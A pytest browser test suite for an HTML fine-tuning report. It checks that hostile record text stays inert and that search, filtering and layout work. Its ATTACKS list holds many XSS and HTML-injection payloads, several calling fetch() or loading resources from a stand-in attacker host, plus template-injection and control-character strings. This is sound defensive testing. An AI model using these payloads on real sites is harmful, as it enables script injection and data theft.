"""The page in a real browser: nothing in the records acts or is fetched, and people can find their way through it."""

import socket
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

import chromium
from chromium import Tab
from finetune.records.evaluation import RowRecord
from finetune.report import render
from report_records import evaluation, of_quality, records

BROWSER = chromium.find()
pytestmark = [pytest.mark.slow, pytest.mark.skipif(BROWSER is None, reason="no Chromium is installed")]

AWAY = "http://attacker.test/"
ACT = f"window.pwned=1;fetch('{AWAY}');document.title='pwned'"
ATTACKS = [
    f"<script>{ACT}</script>",
    f"</pre></details></section></main><script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"<!--><script>{ACT}</script>-->",
    f'<img src={AWAY} onerror="{ACT}">',
    f"<img srcset='{AWAY} 1x'><video poster={AWAY}><audio src={AWAY}>",
    f"<svg onload=\"{ACT}\"><image href={AWAY} /><use href='{AWAY}#x'/></svg>",
    f'<body onload="{ACT}" background={AWAY}>',
    f'<details open ontoggle="{ACT}"><input autofocus onfocus="{ACT}">',
    f'" onclick="{ACT}" autofocus onfocus="{ACT}" x="',
    f"' onmouseover='{ACT}' style='background:url({AWAY})' x='",
    f'<a href="javascript:{ACT}">here</a>',
    f"javascript:{ACT}",
    f"[here](javascript:{ACT}) ![x]({AWAY})",
    f'<a href="data:text/html,<script>{ACT}</script>" ping={AWAY}>here</a>',
    f'<iframe src={AWAY}></iframe><iframe srcdoc="<script>{ACT}</script>"></iframe>',
    f"<object data={AWAY}></object><embed src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}><link rel=prefetch href={AWAY}><link rel=dns-prefetch href={AWAY}>",
    f"<style>@import '{AWAY}'; body {{ background: url({AWAY}); display: none }}</style>",
    f"</style><style>* {{ background: url({AWAY}) }}</style>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}>",
    f"<form action={AWAY}><button autofocus>go</button></form><input type=search id=search>",
    f"</title></textarea></noscript></template><script>{ACT}</script>",
    f"&lt;script&gt;{ACT}&lt;/script&gt; &#60;script&#62; &amp;",
    "{{ 7 * 7 }} {{ cycler.__init__.__globals__ }} {% for x in y %} {# gone #} {% endraw %} ${7*7} $x^2$",
    "turned \u202egnp.exe\u202c isolated \u2066a\u2069 mark \u200f arabic عربي hebrew עברית",
    "nul \0 bell \x07 escape \x1b[31m vertical \x0b delete \x7f next \x85",
    "half \ud800 a \udfff character \ufffe\U000e0041 zalgo Z̷̡͍̪͔a emoji 👩‍👩‍👧",
    "1 MB: " + "<b>" * 333_333,
]


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """The attacker's server: its port, and the requests that came."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    heard.append(connection.recv(4096))
                    connection.sendall(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

        thread = Thread(target=listen, daemon=True)
        thread.start()
        yield server.getsockname()[1], heard
        server.shutdown(socket.SHUT_RDWR)
    thread.join(5)


@pytest.fixture
def tab(listener: tuple[int, list[bytes]]) -> Iterator[Tab]:
    assert BROWSER
    listener[1].clear()
    rules = f"--host-resolver-rules=MAP attacker.test 127.0.0.1:{listener[0]}, MAP * ~NOTFOUND"
    with chromium.browser(BROWSER, rules) as found:
        yield found


def many(count: int, texts: list[str], **changes: Any) -> dict[str, Any]:
    """Records with ``count`` rows, these texts in their questions, references and answers in turn."""
    rows = evaluation().rows
    found = []
    for number in range(count):
        row, text = rows[number % len(rows)], texts[number % len(texts)]
        tuned = replace(row.tuned, answer=text, reason=text[:2000], kind=text[:2000])
        answer = f"the base model on row {number}: " + "SELECT a, b FROM t WHERE c = 1 " * 8
        base = replace(row.base, answer=answer)
        found.append(RowRecord(f"{text} row {number}", f"row {number} {text[:2000]}", text, tuned, base))
    sides = {
        name: replace(side, accuracy=share)
        for (name, side), share in zip(evaluation().sides.items(), (0.25, 0.75), strict=True)
    }
    return of_quality(records(), rows=found, worse_rows=[1], n=count, verdict="better", **sides, **changes)


def write(path: Path, given: dict[str, Any]) -> str:
    path.write_text(render(**given), encoding="utf-8")
    return path.as_uri()


def visible(tab: Tab) -> list[str]:
    """The questions of the examples that can be seen."""
    return tab.run("""[...document.querySelectorAll(".example")].filter(one => one.getClientRects().length)
        .map(one => one.querySelector(".question").textContent)""")


ELEMENTS = """[...document.querySelectorAll("*")].map(one => one.tagName + ":" +
    [...one.attributes].map(a => a.name).filter(name => name != "tabindex" && name != "open").join())"""


def test_the_listener_hears_a_page_that_is_not_guarded(
    tab: Tab, tmp_path: Path, listener: tuple[int, list[bytes]]
) -> None:
    page = tmp_path / "open.html"
    page.write_text(f"<title>x</title><script>{ACT}</script>")
    tab.open(page.as_uri())
    assert tab.run("[window.pwned, document.title]") == [1, "pwned"]
    tab.wait("Network.loadingFailed")  # answered, and withheld from the script: it comes from elsewhere
    assert any(b"attacker.test" in request for request in listener[1])
    assert AWAY in [event["request"]["url"] for event in tab.named("Network.requestWillBeSent")]


def test_hostile_answers_do_nothing(tab: Tab, tmp_path: Path, listener: tuple[int, list[bytes]]) -> None:
    tab.open(write(tmp_path / "harmless.html", many(len(ATTACKS), ["harmless"])))
    expected = tab.run(ELEMENTS)
    tab.call("Network.disable")
    tab.events.clear()
    tab.call("Network.enable")
    url = write(tmp_path / "hostile.html", many(len(ATTACKS), ATTACKS))
    tab.open(url)
    tab.run("""document.querySelectorAll("details").forEach(one => { one.open = true; one.querySelector("summary").click();
        one.open = true; one.querySelectorAll("pre").forEach(text => text.click()) })""")
    tab.drawn()

    asked = {event["request"]["url"][:100] for event in tab.named("Network.requestWillBeSent")}
    assert asked <= {url, "data:,"}
    assert listener[1] == []
    assert tab.named("Page.javascriptDialogOpening") == [] and tab.named("Runtime.exceptionThrown") == []
    assert tab.run("[window.pwned ?? 0, document.title, location.href, document.scripts.length]") == [
        0,
        "Better by executed SQL: 25.0\u00a0% → 75.0\u00a0% – checkpoints, repository, 2026-11-20 12:00 – fine-tuning report",
        url,
        1,
    ]
    assert tab.run(ELEMENTS) == expected  # what the records say makes no element and no attribute
    shown = tab.run("""[...document.querySelectorAll(".example")].map(one => [one.querySelector(".question").textContent,
        one.querySelectorAll(".pair pre")[1].textContent])""")
    answers = {int(question.split()[1]): answer for question, answer in shown}
    for number, attack in enumerate(ATTACKS[:26]):
        assert answers[number] == attack
    assert answers[26].startswith("turned \\u202egnp.exe\\u202c isolated \\u2066a\\u2069 mark \\u200f arabic عربي")
    assert answers[27] == "nul \\x00 bell \\x07 escape \\x1b[31m vertical \\x0b delete \\x7f next \\x85"
    assert answers[28].startswith("half \\ud800 a \\udfff character")
    assert answers[29].endswith("[950,005 more characters]")


def test_the_policy_holds_where_the_escaping_would_fail(
    tab: Tab, tmp_path: Path, listener: tuple[int, list[bytes]]
) -> None:
    """The second lock: the same attacks, put into the page as they are."""
    page = render(**records())
    before, after = page.split("<main>")
    path = tmp_path / "unescaped.html"
    # a refresh and a link that is clicked are no matter of the policy
    bad = "".join(attack for attack in ATTACKS[:26] if "refresh" not in attack)
    path.write_text(f"{before}<main>{bad}{after}", encoding="utf-8")
    tab.open(path.as_uri())
    tab.run("new Promise(done => setTimeout(done, 300))")
    assert tab.run("window.pwned ?? 0") == 0
    assert listener[1] == []


def test_search_and_filter_by_keyboard(tab: Tab, tmp_path: Path) -> None:
    texts = [f"alpha{number}" for number in range(7)]
    tab.open(write(tmp_path / "page.html", many(70, texts)))
    found = 'document.getElementById("found").textContent'
    assert len(visible(tab)) == 70 and visible(tab)[0].startswith("row 1 ")
    tab.press("/", *"ALPHA3")
    assert tab.run("document.activeElement.id") == "search"
    assert len(visible(tab)) == 10 and tab.run(found) == "10 of 70 shown"
    tab.press(*" row 10")  # all words, wherever they stand
    assert visible(tab) == ["row 10 alpha3"]
    tab.press("Enter")
    summary = tab.run('[document.activeElement.tagName, document.activeElement.closest("details").open]')
    assert summary == ["SUMMARY", True]
    tab.press("/", "Escape")
    assert len(visible(tab)) == 70
    tab.run('document.querySelector("input[name=show]").focus()')
    tab.press("ArrowDown")  # the next radio button: fixed
    assert tab.run("document.activeElement.id") == "show-fixed"
    assert len(visible(tab)) == 14 and tab.run(found) == "14 of 70 shown"
    tab.press("/", *"alpha3")
    assert len(visible(tab)) == 2


def test_without_scripts_all_but_the_search_works(tab: Tab, tmp_path: Path) -> None:
    tab.call("Emulation.setScriptExecutionDisabled", value=True)
    tab.open(write(tmp_path / "page.html", many(10, ["text"])))
    assert tab.run('getComputedStyle(document.querySelector(".search")).display') == "none"
    tab.run('document.querySelector("input[name=show]").focus()')
    tab.press("ArrowDown")
    assert len(visible(tab)) == 2
    tab.run('document.querySelector(".example.is-fixed summary").focus()')
    opened = 'document.querySelector(".example.is-fixed").open'
    before = tab.run(opened)
    tab.press("Enter")
    assert tab.run(opened) != before


@pytest.mark.parametrize("width", [320, 390, 1280])
def test_nothing_is_wider_than_the_screen(tab: Tab, tmp_path: Path, width: int) -> None:
    tab.call("Emulation.setDeviceMetricsOverride", width=width, height=800, deviceScaleFactor=1, mobile=width < 600)
    tab.open(write(tmp_path / "page.html", many(len(ATTACKS), ATTACKS, adapter_path="a/long/path/" * 20)))
    tab.run('document.querySelectorAll("details").forEach(one => { one.open = true })')
    tab.drawn()
    too_wide = tab.run("""[...document.querySelectorAll("body *")].filter(one => !one.closest("svg") &&
        one.getBoundingClientRect().right > document.documentElement.clientWidth + 1).map(one => one.outerHTML.slice(0, 80))""")
    assert too_wide == []


def test_thousands_of_rows_are_found_by_searching(tab: Tab, tmp_path: Path) -> None:
    text = "SELECT name, price FROM books WHERE price > 10 ORDER BY name\n" * 4
    tab.open(write(tmp_path / "page.html", many(5000, [text])))
    tab.run("""{ const box = document.getElementById("search"); box.value = "model on row 4999:";
        box.dispatchEvent(new Event("input")) }""")
    tab.drawn()
    assert len(visible(tab)) == 1
